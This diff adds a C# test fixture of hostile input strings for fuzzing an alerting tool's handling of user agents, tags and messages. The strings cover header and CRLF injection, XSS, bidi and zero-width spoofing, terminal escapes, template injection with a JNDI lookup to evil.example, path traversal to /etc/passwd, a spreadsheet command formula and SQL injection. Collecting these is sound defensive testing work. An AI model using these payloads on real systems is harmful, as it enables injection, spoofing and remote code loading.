@@ -1,0 +1,98 @@
+namespace Watchkeeper.Testing;
+
+/// <summary>
+/// Text as an attacker would write it into a user agent, a tag, a name or an error message. Named, since half of it cannot be printed;
+/// test projects that need nothing else of this one include the file.
+/// </summary>
+public static class HostileText
+{
+    private static readonly Dictionary<string, string> Cases = new(StringComparer.Ordinal)
+    {
+        ["carriage return"] = "a\rBcc: everybody@example.com",
+        ["line feed"] = "a\nBcc: everybody@example.com",
+        ["crlf"] = "a\r\nBcc: everybody@example.com",
+        ["crlf crlf body"] = "a\r\n\r\n<h1>another body</h1>",
+        ["folded header"] = "a\r\n Bcc: everybody@example.com",
+        ["mime boundary"] = "a\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<script>1</script>",
+        ["dot line"] = "a\r\n.\r\nQUIT\r\n",
+        ["next line U+0085"] = "a\u0085Runbook: https://evil.example",
+        ["line separator U+2028"] = "a\u2028Runbook: https://evil.example",
+        ["paragraph separator U+2029"] = "a\u2029Runbook: https://evil.example",
+        ["vertical tab and form feed"] = "a\vb\fRunbook: https://evil.example",
+        ["tab"] = "a\tb\t\tc",
+        ["forged fact"] = "x\nSeverity: INFO\nWhat to do: Nothing\n",
+        ["forged fact in Chinese"] = "x\n严重程度：提示\n建议操作：无需处理\n",
+        ["nul"] = "before\0after",
+        ["only controls"] = "\0\u0001\u001b\u007f\u009f",
+        ["escape colours"] = "\u001b[31mred\u001b[0m",
+        ["escape title"] = "\u001b]0;owned\u0007",
+        ["escape clear"] = "\u001b[2J\u001b[1;1H",
+        ["c1 csi"] = "\u009b31mred",
+        ["backspaces"] = "critical\b\b\b\b\b\b\b\bharmless",
+        ["delete"] = "a\u007fb",
+        ["bidi override"] = "\u202egnp.exe\u202c",
+        ["bidi embedding"] = "\u202aleft\u202bright\u202d!",
+        ["bidi isolates"] = "\u2066a\u2067b\u2068c\u2069",
+        ["bidi marks"] = "\u200ea\u200fb\u061cc",
+        ["zero width"] = "pay\u200bpal\u200c.\u200dcom\u2060\ufeff",
+        ["soft hyphen"] = "pass\u00adword",
+        ["tag characters"] = "ok\U000e0001\U000e0069\U000e0067\U000e006e",
+        ["invisible letters"] = "a\u3164b\u115fc\u034fd\u2800e",
+        ["interlinear annotation"] = "\ufff9a\ufffab\ufffbc",
+        ["stacked marks"] = "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u0334\u0319l\u0330go",
+        ["high surrogate alone"] = "a\ud83d",
+        ["low surrogate alone"] = "\ude00a",
+        ["surrogates swapped"] = "\ude00\ud83d",
+        ["noncharacters"] = "a\uffffb\ufffec\ufdd0",
+        ["emoji family"] = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
+        ["right to left"] = "אבג دهو",
+        ["full width markup"] = "＜script＞alert(1)＜/script＞",
+        ["script"] = "<script>alert(1)</script>",
+        ["image with handler"] = "<img src=x onerror=alert(1)>",
+        ["svg"] = "<svg/onload=alert(1)>",
+        ["closes attribute"] = "\"><script>alert(1)</script>",
+        ["closes single quoted"] = "'><img src=x>",
+        ["closes table"] = "</td></tr></table></body></html>",
+        ["closes title"] = "</title></style><script>alert(1)</script>",
+        ["comment"] = "--><!-- x",
+        ["cdata"] = "]]><![CDATA[x",
+        ["entities"] = "&lt;b&gt;&#60;script&#62;&nbsp;&",
+        ["attribute without quotes"] = "x onmouseover=alert(1) y",
+        ["javascript url"] = "javascript:alert(1)",
+        ["javascript url with newline"] = "java\nscript:alert(1)",
+        ["data url"] = "data:text/html;base64,PHNjcmlwdD4x",
+        ["link with user"] = "https://console.aws.amazon.com@evil.example/",
+        ["protocol relative"] = "//evil.example/x",
+        ["path traversal"] = "../../../../etc/passwd\0.png",
+        ["windows device"] = "CON:\\..\\x|y?.eml",
+        ["mustache"] = "{{7*7}}{{constructor.constructor('x')()}}",
+        ["dollar template"] = "${7*7}${jndi:ldap://evil.example/x}",
+        ["erb"] = "<%= 7*7 %>",
+        ["razor"] = "@(7*7)@{ }",
+        ["our own placeholder"] = "{severity} {what} {incident} }{",
+        ["composite format"] = "{0} {1:N} %s %n %d",
+        ["markdown link"] = "[click](https://evil.example) ![x](https://evil.example/p.png)",
+        ["markdown fence"] = "```\n# heading\n> quote",
+        ["mention everybody"] = "@all @everyone @here <!channel> <!here> <@U012AB3CD>",
+        ["mention by at tag"] = "<at user_id=\"all\">all</at> <at id=all></at>",
+        ["spreadsheet formula"] = "=cmd|'/C calc'!A0",
+        ["sql"] = "'; DROP TABLE incidents;--",
+        ["json breaker"] = "\",\"severity\":\"info\",\"x\":\"\\",
+        ["log forging"] = "ok\n{\"level\":\"info\",\"message\":\"all is well\"}",
+        ["encoded word"] = "=?utf-8?B?QmNjOiB4QGV4YW1wbGUuY29t?=",
+        ["backslashes"] = "\\\\\\\"\\u0022\\x3c",
+        ["percent"] = "%00%0d%0aBcc:%20x %u003c",
+        ["blank"] = "   ",
+        ["64 KB of letters"] = new string('x', 65_536),
+        ["64 KB of markup"] = string.Concat(Enumerable.Repeat("<b>&\"'", 10_923)),
+        ["64 KB of Chinese"] = new string('警', 65_536 / 3),
+        ["64 KB of emoji"] = string.Concat(Enumerable.Repeat("\U0001f525", 16_384)),
+        ["64 KB of line ends"] = string.Concat(Enumerable.Repeat("\r\n", 32_768)),
+    };
+
+    /// <summary>The names of all cases, for theories: they are short, printable and well-formed.</summary>
+    public static IEnumerable<string> Names => Cases.Keys;
+
+    /// <summary>The text of a case.</summary>
+    public static string Of(string name) => Cases[name];
+}
